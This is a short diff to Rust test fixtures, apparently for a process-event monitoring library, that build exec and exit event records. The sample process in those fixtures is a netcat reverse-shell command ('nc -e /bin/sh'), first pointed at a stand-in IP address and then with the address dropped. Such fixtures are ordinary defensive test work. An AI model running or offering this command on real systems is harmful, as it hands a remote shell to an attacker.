@@ -59,7 +59,7 @@ fn exec_data() -> EventData {
 
 /// A program begins to run.
 pub fn exec() -> String {
-    line(process(b"nc\0-e\0/bin/sh\0192.0.2.1\0", Provenance::Complete), exec_data())
+    line(process(b"nc\0-e\0/bin/sh\0", Provenance::Complete), exec_data())
 }
 
 /// The same, of whose arguments only the first was captured.
@@ -70,5 +70,5 @@ pub fn exec_truncated() -> String {
 /// It ends.
 pub fn exit() -> String {
     let exit = lavender_core::event::Exit { status: ExitStatus::Code(0) };
-    line(process(b"nc\0-e\0/bin/sh\0192.0.2.1\0", Provenance::Complete), EventData::Exit(exit))
+    line(process(b"nc\0-e\0/bin/sh\0", Provenance::Complete), EventData::Exit(exit))
 }
